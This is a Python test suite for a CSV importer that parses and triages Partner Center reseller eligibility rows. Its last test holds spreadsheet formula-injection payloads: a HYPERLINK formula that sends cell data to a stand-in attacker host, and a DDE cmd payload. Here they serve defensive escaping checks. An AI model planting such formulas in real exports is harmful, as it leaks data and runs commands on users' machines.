"""Partner Center's ResellerEligibility CSV: every tolerance, every bad row, the agreement rule."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.domain.eligibility_import import (
    BadRow,
    EligibilityImportError,
    ImportedRow,
    PorHistory,
    agrees,
    parse_eligibility_csv,
    triage,
)
from services.domain.por_rules import Distributor, PartnerAccount, Registry, ResellerTenant
from services.rendering.eligibility_import import (
    TRIAGE_COLUMNS,
    bad_row_record,
    render_csv,
    render_json,
    summary,
)

HEADER = "PartnerId,ResellerName,ResellerTenantId,IsCompliant,ErrorCodes,RegionMatch\n"


def parse(text: str | bytes):
    return parse_eligibility_csv(text.encode() if isinstance(text, str) else text)


def only_row(text: str | bytes) -> ImportedRow:
    parsed = parse(text)
    assert parsed.bad_rows == [], parsed.bad_rows
    assert len(parsed.rows) == 1, parsed.rows
    return parsed.rows[0]


S = "PartnerId,IsCompliant,ErrorCodes\n"
COMPLIANT = ("1000001", "", "", True, ())


def invalid(*codes: int) -> tuple:
    return ("1000001", "", "", False, codes)


# Each tolerance partner-center.md fixes, as a whole file and the one row it must give:
# (PartnerId, ResellerName, ResellerTenantId, IsCompliant, ErrorCodes).
TOLERATED = [
    (
        "the documented order",
        HEADER + "1000001,Contoso,ten-1,True,,Yes\n",
        ("1000001", "Contoso", "ten-1", True, ()),
    ),
    (
        "columns in another order",
        "ErrorCodes,IsCompliant,ResellerTenantId,PartnerId,ResellerName\n900152,No,ten-1,1000001,C\n",
        ("1000001", "C", "ten-1", False, (900152,)),
    ),
    ("names in any case, spaced", " partnerid ,ISCOMPLIANT,errorCODES\n1000001,no,1\n", invalid(1)),
    ("extra columns ignored", "X,PartnerId,IsCompliant,ErrorCodes\n?,1000001,True,\n", COMPLIANT),
    ("name and tenant are optional", S + "1000001,True,\n", COMPLIANT),
    ("several codes, quoted", S + '1000001,False,"900414,900152"\n', invalid(900414, 900152)),
    (
        "spaces, a repeat, a gap",
        S + '1000001,No," 900152 , 900414,,900152"\n',
        invalid(900152, 900414),
    ),
    ("a UTF-8 byte-order mark", "\ufeff" + S + "1000001,True,\n", COMPLIANT),
    ("CRLF line ends", S.replace("\n", "\r\n") + "1000001,True,\r\n", COMPLIANT),
    ("no newline after the last row", S + "1000001,True,", COMPLIANT),
    ("a code porgate does not know", S + "1000001,False,123\n", invalid(123)),
    (
        "whitespace around values, and a non-ASCII name",
        "PartnerId,ResellerName,IsCompliant,ErrorCodes\n 1000001 , 株式会社コントソ ,  True ,\n",
        ("1000001", "株式会社コントソ", "", True, ()),
    ),
    (
        "a quoted name holding a comma and a newline",
        'PartnerId,ResellerName,IsCompliant,ErrorCodes\n1000001,"Contoso, Inc.\nBerlin",True,\n',
        ("1000001", "Contoso, Inc.\nBerlin", "", True, ()),
    ),
]


@pytest.mark.parametrize(
    ("spelling", "value"),
    [("True", True), ("true", True), ("TRUE", True), ("tRuE", True), ("Yes", True), ("yes", True)]
    + [("YES", True), ("False", False), ("false", False), ("FALSE", False), ("No", False)]
    + [("no", False), ("NO", False), ("nO", False)],
)
def test_is_compliant_reads_true_false_and_yes_no_in_any_case(spelling, value):
    row = only_row(S + f"1000001,{spelling},{'' if value else '900151'}\n")
    assert row.is_compliant is value


@pytest.mark.parametrize(
    ("text", "expected"), [c[1:] for c in TOLERATED], ids=[c[0] for c in TOLERATED]
)
def test_each_tolerated_variation_yields_the_row(text, expected):
    row = only_row(text)
    assert (
        row.partner_id,
        row.reseller_name,
        row.reseller_tenant_id,
        row.is_compliant,
        row.error_codes,
    ) == expected
    assert row.line == 2


# Each kind of bad row, on line 3 between two good rows: reported with its line and skipped,
# and the good rows around it still imported.
BAD = [
    ("a PartnerId too short", "1234,Bad,t,True,,Yes", "PartnerId '1234' is not a PLA id"),
    ("a PartnerId with letters", "12ab345,Bad,t,True,,Yes", "PartnerId '12ab345' is not a PLA id"),
    ("an empty PartnerId", ",Bad,t,True,,Yes", "PartnerId '' is not a PLA id"),
    ("a PartnerId in Arabic-Indic digits", "١٢٣٤٥٦٧,Bad,t,True,,Yes", "is not a PLA id"),
    ("IsCompliant neither boolean", "1000009,B,t,Maybe,,Yes", "IsCompliant 'Maybe' is not True"),
    ("IsCompliant empty", "1000009,Bad,t,,,Yes", "IsCompliant '' is not True/False"),
    ("IsCompliant as 1", "1000009,Bad,t,1,,Yes", "IsCompliant '1' is not True/False"),
    ("a code that is not a number", "1000009,Bad,t,False,90O400,Yes", "ErrorCodes holds '90O400'"),
    ("a negative code", "1000009,Bad,t,False,-900400,Yes", "ErrorCodes holds '-900400'"),
    ("codes split by semicolons", '1000009,B,t,False,"900400;900152",Yes', "ErrorCodes holds"),
    ("compliant with codes", "1000009,B,t,True,900400,Yes", "True but ErrorCodes lists 900400"),
    ("not compliant without codes", "1000009,B,t,False,,Yes", "False but ErrorCodes is empty"),
    ("too few fields", "1000009,Bad,t,True", "4 field(s) where the header has 6"),
    ("too many fields", "1000009,Bad,t,True,,Yes,extra", "7 field(s) where the header has 6"),
    ("several codes unquoted", "1000009,Bad,t,False,900400,900152,Yes", "7 field(s)"),
    ("a PartnerId repeated", "1000001,Again,t,True,,Yes", "PartnerId 1000001 already on line 2"),
]


@pytest.mark.parametrize(("bad_line", "reason"), [c[1:] for c in BAD], ids=[c[0] for c in BAD])
def test_a_bad_row_is_reported_with_its_line_and_the_rest_imported(bad_line, reason):
    text = HEADER + "1000001,A,t1,True,,Yes\n" + bad_line + "\n" + "1000002,B,t2,False,900151,No\n"
    parsed = parse(text)
    assert [r.partner_id for r in parsed.rows] == ["1000001", "1000002"]
    assert [r.line for r in parsed.rows] == [2, 4]
    assert len(parsed.bad_rows) == 1
    assert parsed.bad_rows[0].line == 3
    assert reason in parsed.bad_rows[0].reason
    assert parsed.rows_read == 3


def test_line_numbers_count_physical_lines_blank_lines_and_multiline_fields():
    text = (
        "PartnerId,ResellerName,IsCompliant,ErrorCodes\n"  # 1
        "\n"  # 2: blank, skipped silently
        '1000001,"two\nlines",True,\n'  # 3-4
        "   \n"  # 5: whitespace only, skipped silently
        ",,,\n"  # 6: empty fields only, skipped silently
        "bad,x,True,\n"  # 7
        '1000002,"a\n\nb",True,\n'  # 8-10
        "1000003,x,Yes\n"  # 11: three fields
    )
    parsed = parse(text)
    assert [(r.partner_id, r.line) for r in parsed.rows] == [("1000001", 3), ("1000002", 8)]
    assert [b.line for b in parsed.bad_rows] == [7, 11]
    assert parsed.rows_read == 4


def test_an_unclosed_quote_costs_the_rows_it_swallows_not_the_file():
    text = 'PartnerId,IsCompliant,ErrorCodes\n1000001,True,\n1000002,"True,\n1000003,True,\n'
    parsed = parse(text)
    assert [r.partner_id for r in parsed.rows] == ["1000001"]
    assert [b.line for b in parsed.bad_rows] == [3]


def test_a_header_only_file_is_an_empty_report_not_an_error():
    parsed = parse("PartnerId,IsCompliant,ErrorCodes\n")
    assert parsed.rows == [] and parsed.bad_rows == [] and parsed.rows_read == 0


# Whatever makes the whole file unreadable: one clear message, never a row.
UNREADABLE = [
    ("empty", b"", "empty"),
    ("only a byte-order mark", b"\xef\xbb\xbf", "empty"),
    ("only blank lines", b"\n\r\n   \n", "empty"),
    ("Latin-1, not UTF-8", S.encode() + "1000001,M\u00fcller,\n".encode("latin-1"), "(line 2"),
    ("UTF-16 with its byte-order mark", S.encode("utf-16"), "UTF-16"),
    ("binary", bytes(range(256)), "not UTF-8"),
    ("JSON, not CSV", b'[{"partnerId": "1000001"}]', "lacks required column(s)"),
    ("semicolons", S.replace(",", ";").encode(), "column(s) PartnerId, IsCompliant, ErrorCodes"),
    ("no PartnerId column", b"PartnerName,IsCompliant,ErrorCodes\n", "column(s) PartnerId"),
    ("no ErrorCodes column", b"PartnerId,IsCompliant\n1000001,True\n", "column(s) ErrorCodes"),
    ("no IsCompliant column", b"PartnerId,ErrorCodes\n", "lacks required column(s) IsCompliant"),
    ("a required column twice", S.replace("\n", ",partnerid\n").encode(), "PartnerId twice"),
    ("a field beyond the CSV limit", S.encode() + b"1" * 200_000, "not readable as CSV"),
]


@pytest.mark.parametrize(
    ("data", "message"), [c[1:] for c in UNREADABLE], ids=[c[0] for c in UNREADABLE]
)
def test_an_unreadable_file_raises_one_clear_error(data, message):
    with pytest.raises(EligibilityImportError, match=re.escape(message)):
        parse_eligibility_csv(data)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_parsing_any_bytes_raises_nothing_but_the_import_error(data):
    try:
        parsed = parse_eligibility_csv(data)
    except EligibilityImportError as e:
        assert str(e)
    else:
        assert parsed.rows_read == len(parsed.rows) + len(parsed.bad_rows)


# Plain text, and the pieces that stress a CSV reader and this parser.
_AWKWARD = ["1000001", " 1000002 ", "True", "no", "FALSE", "900400", "900414,900152"]
_CELL = st.one_of(
    st.text(max_size=12), st.sampled_from([*_AWKWARD, '"', ",", "\n", "\r\n", "\ufeff"])
)


@settings(max_examples=300, deadline=None)
@given(
    st.permutations(["PartnerId", "IsCompliant", "ErrorCodes", "ResellerName", "Extra"]),
    st.lists(st.lists(_CELL, max_size=7), max_size=8),
)
def test_parsing_any_rows_under_a_good_header_never_raises_and_keeps_every_row_accounted(
    header, rows
):
    lines = [",".join(header), *(",".join(r) for r in rows)]
    parsed = parse_eligibility_csv("\n".join(lines).encode())
    ids = [r.partner_id for r in parsed.rows]
    assert len(ids) == len(set(ids))
    lines_used = [r.line for r in parsed.rows] + [b.line for b in parsed.bad_rows]
    assert len(lines_used) == len(set(lines_used)) and all(n >= 2 for n in lines_used)
    for row in parsed.rows:
        assert row.is_compliant is (not row.error_codes)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=500))
def test_parsing_any_text_raises_nothing_but_the_import_error(text):
    for data in (text.encode(), "\ufeff".encode() + text.encode()):
        try:
            parse_eligibility_csv(data)
        except EligibilityImportError:
            pass


# partner-center.md's rule, for a list of codes: every Partner Center code among porgate's.
AGREEMENT = [
    ((), (), True),
    ((900400,), (900400,), True),
    ((900414,), (900414, 900152), True),
    ((900152, 900414), (900414, 900152), True),
    ((900414, 900152), (900414, 900152, 900400), True),
    ((), (900400,), False),
    ((900400,), (), False),
    ((900152,), (900414,), False),
    ((900414, 900152), (900414,), False),
    ((123,), (900400,), False),
]


@pytest.mark.parametrize(("partner_center", "porgate", "expected"), AGREEMENT)
def test_they_agree_when_both_are_valid_or_every_partner_center_code_is_among_porgates(
    partner_center, porgate, expected
):
    assert agrees(partner_center, porgate) is expected


@given(
    st.sets(st.sampled_from([800016, 900151, 900400, 900154, 900414, 900152])),
    st.sets(st.sampled_from([800016, 900151, 900400, 900154, 900414, 900152])),
)
def test_agreement_is_the_subset_rule_and_ignores_order(pc, ours):
    expected = (not pc and not ours) or (bool(pc) and bool(ours) and pc <= ours)
    assert agrees(sorted(pc), sorted(ours, reverse=True)) is expected


DIST = "dist-eu-1"


def small_registry() -> Registry:
    r = Registry()
    r.distributors[DIST] = Distributor(DIST, "Europe")
    r.accounts["1000001"] = PartnerAccount("1000001", "PLA", True, "ten-ok")
    r.tenants["ten-ok"] = ResellerTenant(
        "ten-ok", "csp_indirect_reseller", "active", True, "Europe"
    )
    r.active_partnerships.add((DIST, "ten-ok"))
    r.accounts["1000007"] = PartnerAccount("1000007", "PLA", True, "ten-us")
    r.tenants["ten-us"] = ResellerTenant(
        "ten-us", "csp_indirect_reseller", "active", True, "United States"
    )
    r.active_partnerships.add((DIST, "ten-us"))
    return r


def test_triage_takes_porgates_codes_from_the_rules_and_names_the_drift():
    text = (
        "PartnerId,ResellerName,IsCompliant,ErrorCodes\n"
        "1000001,ok both,True,\n"  # valid for both
        "1000007,region both,False,900152\n"  # invalid for both, same code
        "9999999,unknown,True,\n"  # Partner Center valid, porgate 800016
        "1000002,bad,x,\n"  # bad row
        "1000001,dup,True,\n"  # bad row: a repeat of line 2
        "1000008,other,False,900400\n"  # unknown to the registry: porgate 800016 only
    )
    parsed = parse(text)
    when = datetime(2026, 11, 1, tzinfo=UTC)
    histories = {"1000001": PorHistory(3, ("ord-3", "ord-2"), ("sub-1",), when)}
    rows = triage(parsed.rows, DIST, small_registry(), histories)
    got = {r.imported.partner_id: (r.porgate_codes, r.agree, r.drift) for r in rows}
    assert got == {
        "1000001": ((), True, ""),
        "1000007": ((900152,), True, ""),
        "9999999": ((800016,), False, "Partner Center says valid, porgate says invalid"),
        "1000008": ((800016,), False, "porgate lacks Partner Center's 900400"),
    }
    assert [r.imported.line for r in rows] == [2, 3, 4, 7]
    assert rows[0].history.transactions == 3 and rows[1].history == PorHistory()
    assert summary(parsed, rows) == {"rowsRead": 6, "bad": 2, "agree": 2, "disagree": 2}

    document = json.loads(render_json(parsed, rows))
    assert document["summary"] == {"rowsRead": 6, "bad": 2, "agree": 2, "disagree": 2}
    assert [b["line"] for b in document["badRows"]] == [5, 6]
    first = document["rows"][0]
    assert (
        first["RecentOrderIds"] == ["ord-3", "ord-2"] and first["LastDecidedAt"] == when.isoformat()
    )
    assert first["PorgateIsCompliant"] is True and document["rows"][2]["Agreement"] == "drift"

    table = list(csv.DictReader(io.StringIO(render_csv(rows))))
    assert tuple(table[0]) == TRIAGE_COLUMNS
    assert [t["Agreement"] for t in table] == ["agree", "agree", "drift", "drift"]
    assert table[0]["RecentOrderIds"] == "ord-3,ord-2" and table[1]["LastDecidedAt"] == ""
    assert (
        table[1]["PorgateErrorCodes"] == "900152"
        and table[1]["PartnerCenterIsCompliant"] == "False"
    )


def test_partner_center_invalid_and_porgate_valid_is_drift():
    parsed = parse("PartnerId,IsCompliant,ErrorCodes\n1000001,False,900414\n")
    (row,) = triage(parsed.rows, DIST, small_registry(), {})
    assert row.porgate_codes == () and row.agree is False
    assert row.drift == "Partner Center says invalid, porgate says valid"


def test_bad_rows_render_as_line_partner_id_and_reason():
    assert bad_row_record(BadRow(7, "why", "12ab")) == {
        "line": 7,
        "partnerId": "12ab",
        "reason": "why",
    }


REPEATS_AND_BAD = (
    "PartnerId,ResellerName,IsCompliant,ErrorCodes\n"
    "1000001,Good,True,\n"  # line 2
    "12ab,Typo,True,\n"  # line 3: not a PLA id
    "1000001,Again,True,\n"  # line 4: repeated
    "1000002,Maybe,perhaps,\n"  # line 5: no boolean
    "1000003,Short,True\n"  # line 6: a field missing
)


def test_the_csv_reports_every_bad_or_repeated_row_by_line_with_its_reason():
    parsed = parse(REPEATS_AND_BAD)
    rows = triage(parsed.rows, DIST, small_registry(), {})
    table = list(csv.DictReader(io.StringIO(render_csv(rows, parsed.bad_rows))))
    assert [(t["Line"], t["PartnerId"], t["Agreement"]) for t in table] == [
        ("2", "1000001", "agree"),
        ("3", "12ab", "bad"),
        ("4", "1000001", "bad"),
        ("5", "1000002", "bad"),
        ("6", "1000003", "bad"),
    ]
    problems = [t["Problem"] for t in table]
    assert problems[0] == ""
    assert "not a PLA id" in problems[1]
    assert "already on line 2" in problems[2]
    assert "IsCompliant 'perhaps'" in problems[3]
    assert "field(s) where the header has" in problems[4]
    document = json.loads(render_json(parsed, rows))
    assert [(b["line"], b["partnerId"]) for b in document["badRows"]] == [
        (3, "12ab"),
        (4, "1000001"),
        (5, "1000002"),
        (6, "1000003"),
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_the_csv_is_a_formula_a_spreadsheet_would_run(start):
    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["PartnerId", "ResellerName", "ResellerTenantId", "IsCompliant", "ErrorCodes"])
    writer.writerow(["1000001", name, f"{start}cmd|' /C calc'!A0", "True", ""])
    writer.writerow([f"{start}1+1", "x", "y", "True", ""])  # a bad row's PartnerId as written
    text = out.getvalue()
    parsed = parse(text)
    rows = triage(parsed.rows, DIST, small_registry(), {})
    table = list(csv.DictReader(io.StringIO(render_csv(rows, parsed.bad_rows))))
    cells = [v for t in table for v in t.values() if v]
    assert cells and not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # Kept, shown as text (cells are trimmed on reading: a leading tab or CR goes then).
    risky = ("=", "+", "-", "@")
    shown = name.strip()
    assert table[0]["ResellerName"] == ("'" + shown if shown.startswith(risky) else shown)
    assert table[1]["Agreement"] == "bad"
    assert table[1]["PartnerId"].startswith("'") is start.startswith(risky)
